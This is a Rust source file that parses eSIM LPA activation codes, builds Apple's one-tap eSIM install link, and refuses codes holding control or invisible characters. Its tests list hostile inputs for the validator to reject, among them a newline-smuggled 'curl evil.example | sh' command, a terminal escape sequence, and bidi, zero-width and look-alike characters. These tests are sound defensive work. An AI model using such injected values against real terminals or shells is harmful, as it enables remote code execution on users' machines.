//! LPA activation codes (`LPA:1$<SM-DP+ address>$<matching id>`), what an eSIM QR code holds,
//! and the one-tap install link that carries one to an iPhone.

use percent_encoding::{AsciiSet, NON_ALPHANUMERIC, utf8_percent_encode};

/// Apple's universal link for installing an eSIM from its activation code (iOS 17.4 and later).
/// eSIM platforms document it as this prefix followed by the code as it is, for example
/// `https://esimsetup.apple.com/esim_qrcode_provisioning?carddata=LPA:1$rsp.truphone.com$MATCHING_ID`
/// (1GLOBAL Connect API, "eSIM Installation": docs.connect-api.1global.com/recipes/esim-installation;
/// Giga Store, "eSIM Profiles", `appleUniversalLink`: docs.giga.store/api/esim-profiles).
/// The same page of 1GLOBAL lists installing by link as not supported on Android, and we found no
/// public Android equivalent, so none is offered.
pub const APPLE_INSTALL_PREFIX: &str = "https://esimsetup.apple.com/esim_qrcode_provisioning?carddata=";

/// What stays as it is in `carddata`: letters, digits, `-._~` (RFC 3986 unreserved) and the
/// code's own `:` and `$`, which are legal in a query and appear raw in the documented links.
/// Anything else (`&`, `#`, `+`, `%`, space …) would end or change the parameter, so it is
/// percent-encoded; the codes of real SM-DP+ servers never have such characters, so their links
/// are exactly the documented form.
const CARDDATA: &AsciiSet = &NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'.')
    .remove(b'_')
    .remove(b'~')
    .remove(b':')
    .remove(b'$');

/// The iPhone install link of an activation code (`None` if it is not an LPA code).
pub fn apple_install_link(code: &str) -> Option<String> {
    ActivationCode::parse(code)?;
    Some(format!(
        "{APPLE_INSTALL_PREFIX}{}",
        utf8_percent_encode(code.trim(), CARDDATA)
    ))
}

/// The parts of an activation code that a support agent reads out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ActivationCode {
    pub smdp_address: String,
    pub matching_id: String,
}

impl ActivationCode {
    /// Reads `LPA:1$addr$id`, with optional fields after the matching ID (GSMA SGP.22). Spaces
    /// around it are ignored; inside it, only visible ASCII is accepted (SGP.22's codes are
    /// ASCII, its matching IDs letters, digits and `-`): no control character, space or other
    /// invisible character, so a code that passes can be drawn, copied and pasted into a shell
    /// as it is. The SM-DP+ address must be a host name (letters, digits, `.`, `-`, a `:port`).
    pub fn parse(code: &str) -> Option<Self> {
        let code = code.trim();
        if !code.bytes().all(|b| b.is_ascii_graphic()) {
            return None;
        }
        let rest = code.strip_prefix("LPA:").or_else(|| code.strip_prefix("lpa:"))?;
        let mut parts = rest.split('$');
        if parts.next()? != "1" {
            return None;
        }
        let smdp_address = parts.next()?.to_string();
        let matching_id = parts.next().unwrap_or_default().to_string();
        let host = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':');
        (!smdp_address.is_empty() && smdp_address.bytes().all(host)).then_some(Self {
            smdp_address,
            matching_id,
        })
    }
}

/// The activation code as it may be shown, drawn and copied (trimmed), or why it may not: the
/// check the QR image's code goes through, for `ac` as much as for a decoded image.
pub fn checked_code(code: &str) -> Result<String, String> {
    match ActivationCode::parse(code) {
        Some(_) => Ok(code.trim().to_string()),
        None if code.chars().any(crate::text::is_unsafe) => {
            Err("the API's activation code holds control characters: it is not an LPA:1$… code".to_string())
        }
        None => Err("the API's activation code is not an LPA:1$… code".to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_the_parts_and_refuses_the_rest() {
        let ac = ActivationCode::parse("LPA:1$rsp.esim.example$ABC123").unwrap();
        assert_eq!(ac.smdp_address, "rsp.esim.example");
        assert_eq!(ac.matching_id, "ABC123");
        assert!(ActivationCode::parse("LPA:2$x$y").is_none());
        assert!(ActivationCode::parse("https://example.com").is_none());
        assert!(ActivationCode::parse("LPA:1$$id").is_none());
        assert_eq!(
            ActivationCode::parse("  LPA:1$rsp.esim.example:443$ABC-123\n").map(|c| c.smdp_address),
            Some("rsp.esim.example:443".to_string()),
            "spaces around it are no part of it"
        );
    }

    #[test]
    fn a_code_with_anything_invisible_inside_is_refused() {
        for hostile in [
            // An escape sequence that retitles the terminal, and one that runs a command when
            // pasted: a newline ends the line a shell reads.
            "LPA:1$rsp.esim.example$ABC\x1b]0;owned\x07",
            "LPA:1$rsp.esim.example$ABC\ncurl evil.example | sh",
            "LPA:1$rsp.esim.example$ABC\rX",
            "LPA:1$rsp.esim.example$AB C",
            "LPA:1$rsp.esim.example$ABC\u{7f}",
            "LPA:1$rsp.esim.example$ABC\u{9b}31m",
            // A right-to-left override, a zero-width space, a look-alike letter.
            "LPA:1$rsp.esim.example$ABC\u{202e}",
            "LPA:1$rsp.esim.example$AB\u{200b}C",
            "LPA:1$rsp.еsim.example$ABC",
            "LPA:1$rsp.esim.example/x$ABC",
        ] {
            assert!(ActivationCode::parse(hostile).is_none(), "{hostile:?}");
            assert!(apple_install_link(hostile).is_none(), "{hostile:?}");
            assert!(checked_code(hostile).is_err(), "{hostile:?}");
        }
        assert!(
            checked_code("LPA:1$x$A\x1b[31m")
                .unwrap_err()
                .contains("control characters"),
            "the reason says what is wrong"
        );
        assert_eq!(
            checked_code(" LPA:1$rsp.esim.example$ABC-123 ").unwrap(),
            "LPA:1$rsp.esim.example$ABC-123"
        );
    }

    #[test]
    fn the_install_link_is_the_documented_form_and_decodes_to_the_code() {
        let code = "LPA:1$rsp.esim.example$ABC-123";
        let link = apple_install_link(code).unwrap();
        assert_eq!(
            link,
            "https://esimsetup.apple.com/esim_qrcode_provisioning?carddata=LPA:1$rsp.esim.example$ABC-123"
        );
        let odd = "LPA:1$rsp.example$A&B#C+D%";
        let link = apple_install_link(odd).unwrap();
        let query = link.strip_prefix(APPLE_INSTALL_PREFIX).unwrap();
        assert!(!query.contains(['&', '#', '+']), "{link}");
        let decoded = percent_encoding::percent_decode_str(query).decode_utf8().unwrap();
        assert_eq!(decoded, odd);
        assert!(apple_install_link("https://example.com/qr.png").is_none());
    }
}
